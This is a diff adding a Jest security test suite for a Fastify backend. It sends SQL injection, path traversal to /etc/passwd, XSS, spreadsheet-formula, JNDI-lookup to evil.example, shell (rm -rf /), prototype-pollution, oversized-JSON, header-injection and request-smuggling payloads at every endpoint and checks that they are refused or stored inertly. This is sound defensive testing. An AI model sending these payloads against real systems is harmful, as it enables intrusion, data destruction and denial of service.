@@ -1,0 +1,420 @@
+import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
+import { connect } from 'node:net';
+import type { AddressInfo } from 'node:net';
+import type { FastifyInstance } from 'fastify';
+import { flags } from '../../contract/flags.ts';
+import { errorCodes } from '../../contract/errors.ts';
+import { collectionsOf, type Collection } from '../../scripts/probe/collections.ts';
+import { operationsOf, type Operation } from '../../scripts/probe/contract.ts';
+import { startKnowing } from '../../scripts/probe/known.ts';
+import { sample, sourceOf } from '../../scripts/probe/sample.ts';
+import type { JsonSchema } from '../../scripts/probe/schema.ts';
+import { complaintsAbout } from '../support/answers.ts';
+import { databaseKinds, startBackend, testStart, type SignedIn, type TestBackend } from '../support/backend.ts';
+
+const sqlTexts = [
+  "' or 1=1 --",
+  "'; drop table users; --",
+  "') or ('1'='1",
+  '" or ""="',
+  "\\' or 1=1 --",
+  '$$; drop table users; $$',
+  '$1',
+  ':id',
+  '%',
+  '_%_',
+  "' union select password_hash from users --",
+  "'||(select pg_sleep(5))||'",
+  '1; select pg_sleep(5)',
+  'created; drop table users',
+  '(case when 1=1 then email else id end)',
+  'lower(users.password_hash)',
+];
+
+const pathTexts = [
+  '../../../../etc/passwd',
+  '..%2f..%2f..%2fetc%2fpasswd',
+  '..%252f..%252fetc%252fpasswd',
+  '....//....//etc/passwd',
+  '%2e%2e/%2e%2e/package.json',
+  '..\\..\\windows\\win.ini',
+  '..%5c..%5cpackage.json',
+  '/etc/passwd',
+  'file:///etc/passwd',
+  '%00',
+  'x%00.json',
+  '%c0%ae%c0%ae/etc/passwd',
+  '~root',
+];
+
+/** Texts that must come back letter for letter, wherever a text is taken. Each has three characters at least. */
+const hostileTexts = [
+  '<script>alert(1)</script>',
+  '"><img src=x onerror=alert(1)>',
+  'javascript:alert(1)//',
+  '{{7*7}}${7*7}<%= 7*7 %>',
+  '=HYPERLINK("http://evil.example";"click")',
+  '+1+cmd|’/c calc’!A0',
+  '@SUM(1+1)*cmd|" /C calc"!A0',
+  '-2+3+cmd|" /C calc"!A0',
+  'abc\u202Edcba\u202C',
+  'مرحبا بالعالم \u200F(1)',
+  'שלום \u2067עולם\u2069',
+  '🤟🏽 sign 👩🏽‍🦻 𝕊𝕃',
+  'z̸̢̛̤͙a̷l̶g̵o̴',
+  'a\u200Bb\uFEFFc',
+  'O\'Brien \\ "quoted" `back`',
+  'NULL null undefined NaN true',
+  '%s %n %x ${jndi:ldap://evil.example/a}',
+  '; rm -rf / && $(reboot) `id`',
+  "Robert'); drop table users;--",
+  'ﬁ ﷽ ǆ İstanbul ẞ ß',
+];
+
+const jsonTexts: [string, string][] = [
+  ['a prototype', '{"__proto__":{"polluted":true}}'],
+  ['a constructor', '{"constructor":{"prototype":{"polluted":true}}}'],
+  ['a number beyond numbers', '{"name":1e400,"ids":[1e400]}'],
+  ['a key twice', '{"name":"first","name":"second"}'],
+  ['half a letter', '{"name":"abc\\ud800def"}'],
+  ['a null character', '{"name":"abc\\u0000def","email":"a\\u0000@testland.example"}'],
+  ['ten thousand lists within each other', '['.repeat(10_000) + ']'.repeat(10_000)],
+  ['ten thousand objects within each other', '{"a":'.repeat(10_000) + '1' + '}'.repeat(10_000)],
+  ['lists within a field', `{"name":${'['.repeat(50_000)}${']'.repeat(50_000)}}`],
+  ['a hundred thousand numbers', `[${'0,'.repeat(99_999)}0]`],
+  ['ten thousand fields', `{${Array.from({ length: 10_000 }, (_, index) => `"f${index}":0`).join()}}`],
+  ['a text of a quarter of a megabyte', JSON.stringify({ name: 'x'.repeat(250_000) })],
+  ['more than is read', JSON.stringify({ name: 'x'.repeat(300_000) })],
+  ['nothing', ''],
+  ['a comment', '{/* */}'],
+  ['a byte order mark', '\uFEFF{}'],
+  ['a bare word', 'NaN'],
+  ['methods of every object', '{"toString":1,"valueOf":{},"hasOwnProperty":"x","toJSON":null}'],
+];
+
+const queryTexts = [
+  '__proto__[polluted]=1',
+  'constructor[prototype][polluted]=1',
+  '__proto__.polluted=1',
+  'page[__proto__][polluted]=1',
+  `page${'[a]'.repeat(500)}=1`,
+  `role[]=${'x&role[]='.repeat(2000)}`,
+  'role[999999999]=manager',
+  Array.from({ length: 5000 }, (_, index) => `p${index}=1`).join('&'),
+  'page=1&page=2',
+  'page[]=1',
+  'page_size[$gt]=1',
+  'search[]=a&search[]=b',
+  'search=%E0%A4%A',
+  'search=%00',
+  'search=%ED%A0%80',
+  'toString=1&hasOwnProperty=2&valueOf=3',
+  'page=0x10',
+  'page=1e1',
+  'page=NaN',
+  'page=9999999999999999999999',
+  '&&&===',
+];
+
+const longest = 10_000;
+
+describe.each(databaseKinds)('what means harm, on the %s database', (kind) => {
+  let backend: TestBackend;
+  let app: FastifyInstance;
+  let owner: SignedIn;
+  let operations: Operation[];
+  let collections: Collection[];
+  const source = { ...sourceOf('corpora', testStart), optional: 0 };
+  const known = startKnowing((values) => values[0]);
+
+  beforeAll(async () => {
+    backend = await startBackend(kind);
+    app = await backend.app({ flags: Object.fromEntries(flags.map((flag) => [flag, true])) });
+    owner = await backend.signedIn();
+    await backend.signedIn({ role: 'interpreter' });
+    operations = operationsOf((await app.inject('/openapi.json')).json());
+    collections = collectionsOf(operations);
+    for (const operation of operations.filter(({ method }) => method === 'GET')) {
+      const url = known.fill(operation);
+      const answer = url ? await app.inject({ url, headers: owner.headers }) : null;
+      if (answer?.statusCode === 200 && /json/.test(String(answer.headers['content-type'])))
+        known.learn(operation.path, answer.json());
+    }
+  }, 60_000);
+  afterAll(() => backend.close());
+
+  const call = (
+    method: string,
+    url: string,
+    { payload, headers = {} }: { payload?: string | Buffer; headers?: Record<string, string> } = {},
+  ) =>
+    app.inject({
+      method: method as 'GET',
+      url,
+      headers: {
+        ...owner.headers,
+        ...(payload === undefined ? {} : { 'content-type': 'application/json' }),
+        ...headers,
+      },
+      ...(payload === undefined ? {} : { payload }),
+    });
+  const pathOf = (operation: Operation) => known.fill(operation) ?? operation.path.replace(/\{\w+\}/g, 'f'.repeat(24));
+  const isPolluted = () => 'polluted' in {} || 'polluted' in [];
+
+  it('in every value of every query is a value or refused, never a command', async () => {
+    const before = (await call('GET', '/users/')).json().count;
+    const complaints: string[] = [];
+    for (const operation of operations.filter(({ method }) => method === 'GET')) {
+      const names = operation.parameters.filter((one) => one.in === 'query').map(({ name }) => name);
+      for (const name of names)
+        for (const text of name === 'search' || name === 'ordering' ? sqlTexts : sqlTexts.slice(0, 4)) {
+          const began = performance.now();
+          const answer = await call('GET', `${pathOf(operation)}?${name}=${encodeURIComponent(text)}`);
+          const where = `${operation.name} ?${name}=${text}`;
+          complaints.push(...complaintsAbout(operation, answer).map((complaint) => `${where}: ${complaint}`));
+          if (performance.now() - began > 3000) complaints.push(`${where}: it slept`);
+          // Nobody is called so: a search that finds somebody has not looked for this.
+          if (name === 'search' && answer.statusCode === 200 && answer.json().count > 0 && !/^[%_$1]+$/.test(text))
+            complaints.push(`${where}: found ${answer.json().count}`);
+          if (name === 'search' && /^[%_]+$/.test(text) && answer.json().count > 0)
+            complaints.push(`${where}: is a pattern`);
+        }
+    }
+    expect(complaints).toEqual([]);
+    expect((await call('GET', '/users/')).json().count).toBe(before);
+  }, 60_000);
+
+  it('in every path finds nothing', async () => {
+    const complaints: string[] = [];
+    const texts = [...sqlTexts.map((text) => encodeURIComponent(text)), ...pathTexts];
+    for (const { path, method, name } of operations.filter((one) => one.path.includes('{') && one.method !== 'POST'))
+      for (const text of texts) {
+        const answer = await call(method, path.replace(/\{\w+\}/g, text));
+        if (![400, 404].includes(answer.statusCode)) complaints.push(`${name} ${text}: ${answer.statusCode}`);
+      }
+    for (const text of pathTexts)
+      for (const start of ['/', '/docs/', '/openapi.json/', '/users/../']) {
+        const answer = await call('GET', `${start}${text}`);
+        if (answer.statusCode < 400) complaints.push(`${start}${text}: ${answer.statusCode}`);
+        if (/root:|"scripts"/.test(answer.body)) complaints.push(`${start}${text}: a file`);
+      }
+    expect(complaints).toEqual([]);
+  }, 60_000);
+
+  it.each(queryTexts.map((text) => [text.slice(0, 60), text]))(
+    'as the query %s is read or refused',
+    async (_, text) => {
+      for (const { path } of operations.filter((one) => one.method === 'GET' && !one.path.includes('{'))) {
+        const answer = await call('GET', `${path}?${text}`);
+        expect([path, answer.statusCode < 500]).toEqual([path, true]);
+      }
+      expect(isPolluted()).toBe(false);
+    },
+  );
+
+  it.each(jsonTexts)(
+    'as a body, %s is read or refused by every call',
+    async (_, payload) => {
+      for (const operation of operations.filter(({ body }) => body)) {
+        const answer = await call(operation.method, pathOf(operation), { payload, headers: { 'if-match': '*' } });
+        expect([operation.name, complaintsAbout(operation, answer)]).toEqual([operation.name, []]);
+      }
+      expect(isPolluted()).toBe(false);
+    },
+    60_000,
+  );
+
+  /** The fields of a collection's records that hold any text. */
+  const textFields = ({ create, read }: Collection): string[] => {
+    const answered = read.answers[0]?.schema?.properties ?? {};
+    const isText = (schema: JsonSchema): boolean =>
+      schema.anyOf
+        ? schema.anyOf.some(isText)
+        : schema.type === 'string' && !schema.format && !schema.pattern && !schema.enum;
+    return Object.entries(create.body?.schema.properties ?? {})
+      .filter(
+        ([name, schema]) => isText(schema) && name in answered && !/phone|email|zone|url|link|website|slug/i.test(name),
+      )
+      .map(([name]) => name);
+  };
+
+  /** A body with one field of it given; what else it has is another every time. */
+  const bodyWith = ({ create }: Collection, field: string, text: string) =>
+    JSON.stringify({
+      ...(sample(create.body?.schema ?? {}, '', { ...source, idFor: known.idFor }) as object),
+      [field]: text,
+    });
+
+  it('comes back as it was from every field that takes any text', async () => {
+    const kept = new Map<string, number>();
+    for (const collection of collections)
+      for (const field of textFields(collection))
+        for (const text of hostileTexts) {
+          const { create } = collection;
+          let made = await call('POST', create.path, { payload: bodyWith(collection, field, text) });
+          // The rest of the body may forbid the field: an address for what is remote.
+          for (let turn = 0; turn < 40 && made.statusCode !== 201; turn += 1)
+            made = await call('POST', create.path, { payload: bodyWith(collection, field, text) });
+          const where = [create.name, field, text];
+          expect([...where, complaintsAbout(create, made)]).toEqual([...where, []]);
+          if (made.statusCode !== 201) continue;
+          const path = `${create.path}${made.json().id}/`;
+          const read = (await call('GET', path)).json();
+          expect([...where, read[field]]).toEqual([...where, text.normalize('NFC').trim()]);
+          expect((await call('DELETE', path)).statusCode).toBe(204);
+          kept.set(`${create.path} ${field}`, (kept.get(`${create.path} ${field}`) ?? 0) + 1);
+        }
+    expect(Object.fromEntries(kept)).toEqual(
+      Object.fromEntries([...kept.keys()].map((field) => [field, hostileTexts.length])),
+    );
+    expect([...kept.keys()]).toEqual(
+      expect.arrayContaining(['/contacts/ name', '/users/ first_name', '/users/ last_name']),
+    );
+  }, 120_000);
+
+  it('with half a letter or a null character in it is refused, since it would come back as another', async () => {
+    for (const collection of collections)
+      for (const field of textFields(collection))
+        for (const text of ['abc\ud800', 'abc\u0000'])
+          expect([
+            field,
+            (await call('POST', collection.create.path, { payload: bodyWith(collection, field, text) })).statusCode,
+          ]).toEqual([field, 400]);
+  });
+
+  it('is refused by name where a text is longer than its field', async () => {
+    for (const collection of collections)
+      for (const field of textFields(collection)) {
+        const answer = await call('POST', collection.create.path, {
+          payload: bodyWith(collection, field, '𝕊'.repeat(longest)),
+        });
+        expect([collection.create.name, answer.statusCode, answer.json().errors]).toEqual([
+          collection.create.name,
+          400,
+          expect.objectContaining({ [field]: ['too_long'] }),
+        ]);
+      }
+  });
+
+  it('is text in a body of other letters than UTF-8, or refused', async () => {
+    const bodies = [
+      Buffer.from('{"name":"abc","phoneNumber":"+3545812345"}', 'utf16le'),
+      Buffer.from([0x7b, 0xff, 0xfe, 0x7d]),
+      Buffer.from('{"name":"\xe9\xe9\xe9"}', 'latin1'),
+    ];
+    for (const payload of bodies) expect((await call('POST', '/contacts/', { payload })).statusCode).toBe(400);
+  });
+});
+
+describe('what means harm on the line itself', () => {
+  let backend: TestBackend;
+  let port: number;
+  let authorization: string;
+  beforeAll(async () => {
+    backend = await startBackend('embedded');
+    const app = await backend.app();
+    await app.listen({ host: '127.0.0.1', port: 0 });
+    port = (app.server.address() as AddressInfo).port;
+    ({ authorization } = (await backend.signedIn()).headers);
+  }, 60_000);
+  afterAll(() => backend.close());
+
+  /** Writes bytes and answers what comes back until the other side is silent or hangs up. */
+  const speak = (lines: string[], body = ''): Promise<string> =>
+    new Promise((done, fail) => {
+      const socket = connect(port, '127.0.0.1', () => socket.write(`${lines.join('\r\n')}\r\n\r\n${body}`));
+      let heard = '';
+      const end = () => {
+        socket.destroy();
+        done(heard);
+      };
+      socket.on('data', (chunk) => (heard += String(chunk)));
+      socket.on('end', end);
+      socket.setTimeout(1500, end);
+      socket.on('error', (error) => (heard ? end() : fail(error)));
+    });
+  const get = (...headers: string[]) =>
+    speak(['GET /contacts/ HTTP/1.1', 'Host: x', 'Connection: close', `Authorization: ${authorization}`, ...headers]);
+  const statusOf = (answer: string) => Number(/^HTTP\/1\.1 (\d+)/.exec(answer)?.[1]);
+
+  it('a header with another in it is refused or no part of the answer', async () => {
+    for (const header of [
+      'X-Request-Id: trace-1234\rSet-Cookie: a=b',
+      'X-Request-Id: trace-1234\nSet-Cookie: a=b',
+      'X-Request-Id: trace-1234%0d%0aSet-Cookie: a=b',
+      'Origin: https://x.example%0d%0aSet-Cookie:a=b',
+    ])
+      expect(await get(header)).not.toMatch(/set-cookie/i);
+  });
+
+  it.each([
+    ['a header of a hundred thousand letters', ['X-Long: ' + 'x'.repeat(100_000)]],
+    ['ten thousand headers', Array.from({ length: 10_000 }, (_, index) => `X-${index}: y`)],
+    ['two lengths', ['Content-Length: 1', 'Content-Length: 2']],
+    ['a length and chunks', ['Content-Length: 5', 'Transfer-Encoding: chunked']],
+    ['a length below nothing', ['Content-Length: -1']],
+    ['a null character', ['X-Null: a\u0000b']],
+    ['a name with a space', ['X Y: z']],
+    ['folded lines', ['X-Fold: a', ' b']],
+  ])('%s is refused as a problem of the catalogue', async (_, headers) => {
+    const answer = await get(...headers);
+    expect(statusOf(answer)).toBe(400);
+    expect(answer).toMatch(/\r\nContent-Type: application\/problem\+json/i);
+    const problem = JSON.parse(answer.slice(answer.indexOf('\r\n\r\n') + 4));
+    expect(problem).toEqual({ status: 400, title: 'Bad Request', code: 'invalid', request_id: expect.any(String) });
+    expect(errorCodes.invalid).toBe(400);
+  });
+
+  it('two tokens are not two chances', async () => {
+    const answer = await speak([
+      'GET /contacts/ HTTP/1.1',
+      'Host: x',
+      'Connection: close',
+      'Authorization: Token nobodys',
+      `Authorization: ${authorization}`,
+    ]);
+    expect([400, 401]).toContain(statusOf(answer));
+  });
+
+  it('another host is no other backend, and is named nowhere', async () => {
+    const answer = await speak([
+      'GET /openapi.json HTTP/1.1',
+      'Host: evil.example',
+      'Connection: close',
+      'X-Forwarded-Host: evil.example',
+    ]);
+    expect(statusOf(answer)).toBe(200);
+    expect(answer).not.toContain('evil.example');
+  });
+
+  it('a second call hidden in the body of the first stays a body', async () => {
+    const hidden = 'GET /users/ HTTP/1.1\r\nHost: x\r\n\r\n';
+    const answer = await speak(
+      [
+        'POST /contacts/ HTTP/1.1',
+        'Host: x',
+        `Authorization: ${authorization}`,
+        'Content-Type: application/json',
+        `Content-Length: ${hidden.length}`,
+        'Connection: close',
+      ],
+      hidden,
+    );
+    expect(answer.match(/HTTP\/1\.1 \d+/g)).toEqual(['HTTP/1.1 400']);
+  });
+
+  it('methods that no route has find nothing', async () => {
+    for (const method of ['TRACE', 'CONNECT', 'PROPFIND', 'PUT', 'FOO']) {
+      const status = statusOf(
+        await speak([
+          `${method} /contacts/ HTTP/1.1`,
+          'Host: x',
+          'Connection: close',
+          `Authorization: ${authorization}`,
+        ]).catch(() => 'HTTP/1.1 400'),
+      );
+      // CONNECT is hung up on without an answer.
+      expect([400, 404, 405, NaN]).toContainEqual(status);
+    }
+  });
+});
